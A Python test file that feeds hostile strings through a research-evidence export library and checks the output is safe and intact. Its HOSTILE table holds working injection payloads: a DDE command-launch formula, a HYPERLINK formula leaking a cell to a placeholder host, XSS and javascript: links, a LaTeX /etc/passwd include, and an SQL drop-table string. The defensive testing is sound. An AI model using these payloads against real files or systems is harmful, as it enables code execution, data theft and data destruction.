"""Hostile text through every format: it comes back as it went in, and nothing of it runs or breaks a file."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pyarrow.parquet as pq
import pytest
import rispy
from bibtexparser.entrypoint import parse_string
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.warehouse.tables import row, written
from warehouse.exports.text import fit, formula_safe, one_line
from warehouse.exports.writers import FORMATS
from warehouse.exports.xlsx import CUT

HOSTILE = {
    "formula": "=1+1", "plus": "+44 20 7946 0000", "minus": "-2+3", "at": "@SUM(A1:A9)", "dde": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("http://x.example/?"&A1,"look")', "full width": "＝1+1", "tab": "\t=1+1",
    "return": "\r=1+1", "quotes": 'He said "=1+1",\n"and left"', "icon": ":material/delete: :red[x]",
    "html": "<script>alert(1)</script><img src=x onerror=1>", "latex": "$x^2$ \\include{/etc/passwd} {%",
    "markdown": "![t](http://x.example/t.png) [a](javascript:alert(1)) **b**", "long": "word " * 8_000,
    "ris": "A title\nER  - \nTY  - JOUR\nTI  - Injected", "ris carriage": "A\r\nER  - \r\n\r\nTY  - NEWS",
    "controls": "a\x00b\x07c\x1bd\x85e\x9ff", "bidi": "abc\u202egpj.exe\u2066x\u2069", "surrogate": "a\ud800b\udfffc",
    "zero width": "a\u200bb\ufeffc", "marks": "a" + "\u0301" * 500, "astral": "😀𝒜 \U0010ffff", "only space": "   ",
    "lines": "a\u2028b\u2029c\x0bd", "xml": "]]> <?xml version='1.0'?> &lol; <!DOCTYPE x>",
    "sql": "'; drop table claim; --", "percent": "100% _sure_ ~ ^ # & @article{x,",
}  # fmt: skip
FIELDS = ("quote", "title", "publisher", "outcome", "note")


def hostile(text: str) -> list[dict[str, Any]]:
    """Two rows, of which the first has the text wherever text of the outside stands."""
    planted = dict.fromkeys(FIELDS, text)
    return [row(1, **planted, authors=[text], language=text, doi=text, licence=text), row(2)]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("format", FORMATS)
def test_no_format_fails_on(text: str, format: str) -> None:
    assert written(hostile(text), format, "cochrane")


def read_csv(body: bytes) -> list[dict[str, str]]:
    csv.field_size_limit(1_000_000)
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def same(text: str) -> str:
    """What a file that Unicode and XML can hold gives back."""
    return fit(text)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_csv_gives_back_text_behind_an_apostrophe_where_it_would_run(text: str) -> None:
    first, second = read_csv(written(hostile(text), "csv"))
    assert first["quote"] == formula_safe(same(text))
    assert not re.match(r"[=+\-@\t\r\n＝＋－＠]", first["title"])
    assert second["quote"] == "Emergency admissions rose by 2%."
    plain, _ = read_csv(written(hostile(text), "csv", formulas_as_text=False))
    assert plain["quote"] == same(text)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_json_lines_give_back_the_very_text(text: str) -> None:
    lines = written(hostile(text), "jsonl").decode("utf-8").split("\n")
    assert json.loads(lines[0])["quote"] == text
    assert len(lines) == 3


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_excel_holds_text_and_no_formula(text: str) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(written(hostile(text), "xlsx")))["Evidence"]
    assert {cell.data_type for line in sheet.iter_rows() for cell in line} <= {"s", "n", "d", "b", "inlineStr"}
    found = sheet["B2"].value
    if len(text) > 32_767:
        assert found.endswith(CUT)
        assert len(found) <= 32_767
    elif text.strip():
        assert found == same(text)
    assert sheet.max_row == 3


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_ris_is_not_split_or_grown_by(text: str) -> None:
    body = written(hostile(text), "ris").decode("utf-8")
    records = rispy.loads(body)
    assert len(records) == 2
    assert len(re.findall(r"(?m)^TY  - ", body)) == len(re.findall(r"(?m)^ER  - ", body)) == 2
    if one_line(text):
        assert records[0]["title"] == one_line(text)
    assert records[1]["title"] == "Pooled budgets examined"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_bibtex_is_not_broken_by(text: str) -> None:
    body = written(hostile(text), "bibtex").decode("utf-8")
    library = parse_string(body)
    assert library.failed_blocks == []
    assert len(library.entries) == 2
    assert library.entries[1]["author"] == "Example, Ann"
    assert not re.search(r"\\(include|input|write)", body)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_csl_endnote_word_and_parquet_read_back(text: str) -> None:
    items = json.loads(written(hostile(text), "csljson"))
    assert len(items) == 2
    records = ElementTree.fromstring(written(hostile(text), "endnote")).findall("records/record")
    assert len(records) == 2
    if one_line(text):
        assert items[0]["title"] == "".join(records[0].find("titles/title").itertext()) == one_line(text)  # type: ignore[union-attr]
    document = Document(io.BytesIO(written(hostile(text), "docx", "minimal")))
    assert document.tables[0].rows[1].cells[0].text == same(text)
    found = pq.read_table(io.BytesIO(written(hostile(text), "parquet")))
    assert found.column("quote")[0].as_py() == same(text)


class Tags(HTMLParser):
    """What tags and addresses a page has."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links |= {value or "" for name, value in attrs if name in ("href", "src") or name.startswith("on")}


def tags(rows: list[dict[str, Any]]) -> Tags:
    parser = Tags()
    parser.feed(written(rows, "html").decode("utf-8"))
    return parser


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_web_page_has_no_tag_or_link_of(text: str) -> None:
    assert tags(hostile(text)).tags == tags([row(1), row(2)]).tags
    evil = [row(1, url=f"javascript:{text}", deep_link=text, archive_url="data:text/html,x"), row(2)]
    assert all(link.startswith("https://") for link in tags(evil).links)


ANY = st.text(st.characters(codec=None, categories=None), max_size=60)


@given(ANY)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_text_goes_through_the_text_formats_and_back(text: str) -> None:
    rows = hostile(text)
    assert read_csv(written(rows, "csv", formulas_as_text=False))[0]["quote"] == same(text)
    assert json.loads(written(rows, "jsonl").split(b"\n")[0])["quote"] == text
    assert len(rispy.loads(written(rows, "ris").decode())) == 2
    assert len(parse_string(written(rows, "bibtex").decode()).entries) == 2
    assert len(ElementTree.fromstring(written(rows, "endnote"))[0]) == 2
    assert tags(rows).tags == tags([row(1), row(2)]).tags
